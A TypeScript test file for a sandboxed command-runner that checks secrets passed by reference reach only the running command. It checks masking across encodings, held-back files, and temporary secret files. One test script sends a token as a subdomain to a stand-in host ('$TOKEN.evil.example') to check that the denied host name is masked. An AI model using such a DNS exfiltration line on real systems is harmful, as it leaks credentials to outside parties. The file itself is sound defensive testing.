/** Secrets by reference in the embedded sandbox: the command has them, and nothing else ever does. */
import { execFileSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { eventually } from '../support/eventually.ts';
import type { TestRepository } from '../support/repository.ts';
import { type Ground, sceneOn } from './main-path.ts';
import { commandLines, findTraces } from './traces.ts';

const sandbox: Ground = {
  name: 'the embedded sandbox',
  create: ['--runtime', 'sandbox'],
  env: () => ({ DOCKER_HOST: 'unix:///nonexistent' }),
  isolated: true,
  cleanUp: async () => undefined,
};

const value = 'T0p/Secret+Value "1"';
const env = { MY_TOKEN: value };

interface Status {
  readonly held: readonly { readonly path: string; readonly detail: string }[];
  readonly access: {
    readonly approved: boolean;
    readonly secrets: readonly unknown[];
    readonly lines: readonly string[];
  };
}

const noTraces = (repository: TestRepository) => findTraces(repository, value);

describe('a secret by reference', () => {
  it('is masked in the name of a host that was denied, in what exec says and in status', async () => {
    const { cli, create } = sceneOn(sandbox);
    await create('one', '--secret', 'TOKEN=env:MY_TOKEN', '--allow-host', 'example.org');
    const script = 'curl -s "http://$TOKEN.evil.example" "http://x.$TOKEN.evil.example"; true';
    const said = await cli.run(['exec', 'one', '--', 'sh', '-c', script], { env: { MY_TOKEN: 'Ab3dEfGh1jKlMn' } });
    const { stdout } = await cli.run(['status', 'one', '--json']);
    for (const text of [said.stderr, stdout]) {
      expect(text).toContain('***.evil.example');
      expect(text).toContain('x.***.evil.example');
      expect(text.toLowerCase()).not.toContain('ab3defgh1jklmn');
    }
  });

  it('is in the environment of the command and nowhere else, while it runs and afterwards', async () => {
    const { repository, cli, create } = sceneOn(sandbox);
    await create('one', '--secret', 'TOKEN=env:MY_TOKEN');
    const script = 'printf %s "$TOKEN" | sha256sum; cat /proc/1/environ; ps ax -o args; env; echo go; read line';
    const child = cli.start(['exec', 'one', '--show-secrets', '--', 'sh', '-c', script], { env });
    let said = '';
    child.stdout?.on('data', (chunk: Buffer) => {
      said += chunk.toString('latin1');
    });
    await eventually(
      () => said.includes('\ngo\n'),
      () => said,
      60_000,
    );
    const digest = execFileSync('sha256sum', { input: value }).toString().slice(0, 64);
    expect(said.startsWith(digest)).toBe(true);
    // Once: what env(1) prints.
    expect(said.split(value)).toHaveLength(2);
    expect(said).toContain(`\nTOKEN=${value}\n`);
    expect(commandLines()).not.toContain(value);
    expect(noTraces(repository)).toEqual([]);
    child.stdin?.end('\n');
    await new Promise((resolve) => child.once('exit', resolve));
    expect(noTraces(repository)).toEqual([]);
    const without = await cli.run(['exec', 'one', '--without-secrets', '--', 'sh', '-c', 'echo "[$TOKEN]"']);
    expect(without).toMatchObject({ status: 0, stdout: '[]\n' });

    // Masked in what streams and in what is stored, whatever the encoding and the pieces.
    const encoding = [
      'echo "plain $TOKEN."',
      'printf %s "$TOKEN" | base64',
      'printf "x%s" "$TOKEN" | od -An -tx1 | tr -d " \\n"; echo',
      'printf %s "$TOKEN" | sed "s/./&\\n/g" | while IFS= read -r c; do printf %s "$c"; done; echo',
      'echo "to stderr $TOKEN" >&2',
    ].join('\n');
    const args = ['exec', 'one', '--', 'sh', '-c', encoding, value];
    const streamed = await cli.run(args, { env });
    expect(streamed.stdout).toMatch(/^plain \*\*\*\.\n\*\*\*=\n78\*\*\*\n\*\*\*\n$/);
    expect(streamed.stderr).toBe('to stderr ***\n');
    // The record has the command, in which somebody has written the value itself.
    expect(repository.git('log', '-1', '--format=%s', 'refs/coppice/one/record')).toContain('exec sh -c');
    expect(noTraces(repository)).toEqual([]);
  });

  it('holds back every file that has it, for all commands; restored files are still held', async () => {
    const { repository, cli, create } = sceneOn(sandbox);
    const { worktree } = await create('one', '--secret', 'TOKEN=env:MY_TOKEN');
    const script =
      'echo "$TOKEN" > a; printf %s "$TOKEN" | base64 > b; echo fine > c; git add c a; git commit -qm mine';
    const wrote = await cli.run(['exec', 'one', '--', 'sh', '-c', script], { env });
    expect(wrote).toMatchObject({ status: 0, stderr: expect.stringContaining('a secret that was given') });
    writeFileSync(join(worktree, 'd'), `edited: ${value}`);
    const { held } = await cli.json<Status & Record<string, unknown>>(['status', 'one']);
    expect(held.map(({ path }) => path)).toEqual(['b', 'd']);
    const merged = await cli.run(['merge', 'one']);
    expect(merged).toMatchObject({ status: 6, stderr: expect.stringMatching(/ a /) });
    await cli.run(['exec', 'one', '--without-secrets', '--', 'sh', '-c', 'rm a; git commit -qam clean --amend']);
    await cli.json(['remove', '--force', 'one']);
    await cli.json(['restore', 'one']);
    const again = await cli.json<Status & Record<string, unknown>>(['status', 'one']);
    expect(again.held.map(({ path }) => path)).toEqual(['b', 'd']);
    expect(repository.git('ls-tree', '-r', '--name-only', 'coppice/one').split('\n')).toEqual(['README.md', 'c']);
  });

  it('is had from wherever it is; as a file it is there while the command runs, byte for byte, for its user alone', async () => {
    const { repository, cli, create } = sceneOn(sandbox);
    const key = `-----BEGIN-----\nfirst line of ${value}\n-----END-----\n`;
    writeFileSync(join(repository.home, 'key'), key);
    await create('one', '--secret-file', 'KEY=file:~/key');
    const script = 'sha256sum < "$KEY"; stat -c %a "$KEY"; echo "$KEY"; cat "$KEY"';
    const { stdout, status } = await cli.run(['exec', 'one', '--', 'sh', '-c', script]);
    const [digest, mode, path = '', ...shown] = stdout.split('\n');
    expect({ status, mode, shown }).toEqual({ status: 0, mode: '600', shown: ['***', ''] });
    expect(digest).toBe(execFileSync('sha256sum', { input: key }).toString().trim());
    expect(path).toMatch(/^\/dev\/shm\//);
    const after = await cli.run(['exec', 'one', '--without-secrets', '--', 'ls', '-A', '/dev/shm']);
    expect(after.stdout).toBe('');

    // From a command, op and vault; one that cannot be had stops the command and says which.
    const bin = join(repository.directory, 'bin');
    repository.write({
      '../bin/op': { executable: '#!/bin/sh\n[ "$*" = "read op://Team/npm/token" ] && echo "from-op $HOME"\n' },
      '../bin/vault': { executable: '#!/bin/sh\n[ "$*" = "kv get -field=key secret/app" ] && printf from-vault\n' },
      '../file': 'from-a-file\n',
    });
    const all = [
      'A=op://Team/npm/token',
      'B=vault:secret/app#key',
      'C=file:../file',
      'D=command:echo from-a-command; pwd',
    ];
    const options = all.flatMap((each) => ['--secret', each]);
    const PATH = `${bin}:${process.env.PATH}`;
    const got = await cli.run(
      ['exec', 'one', '--without-secrets', '--show-secrets', ...options, '--', 'sh', '-c', 'echo "$A|$B|$C|$D"'],
      {
        env: { PATH },
      },
    );
    expect(got.stdout).toBe(`from-op ${repository.home}|from-vault|from-a-file|from-a-command\n${repository.home}\n`);
    const failing: readonly (readonly [string, RegExp])[] = [
      ['A=op://Team/npm/token', /A cannot be had: the program op, .* is not installed/],
      ['A=env:NOT_SET', /A cannot be had: the environment variable NOT_SET is not set/],
      ['A=file:nowhere', /A cannot be had: the file ".*\/nowhere" cannot be read/],
      [
        'A=command:echo half-a-secret; exit 3',
        /A cannot be had: the command "echo half-a-secret; exit 3" ended with status 3/,
      ],
    ];
    for (const [secret, sentence] of failing) {
      const refused = await cli.run(['exec', 'one', '--without-secrets', '--secret', secret, '--', 'touch', 'ran']);
      expect(refused).toMatchObject({ status: 5, stderr: expect.stringMatching(sentence) });
    }
    const mistaken = await cli.run(['exec', 'one', '--secret', `A=${value}`, '--', 'touch', 'ran']);
    expect(mistaken.status).toBe(2);
    expect(mistaken.stderr).not.toContain(value);
    expect(repository.git('ls-tree', '--name-only', 'coppice/one')).toBe('README.md');
  });
});
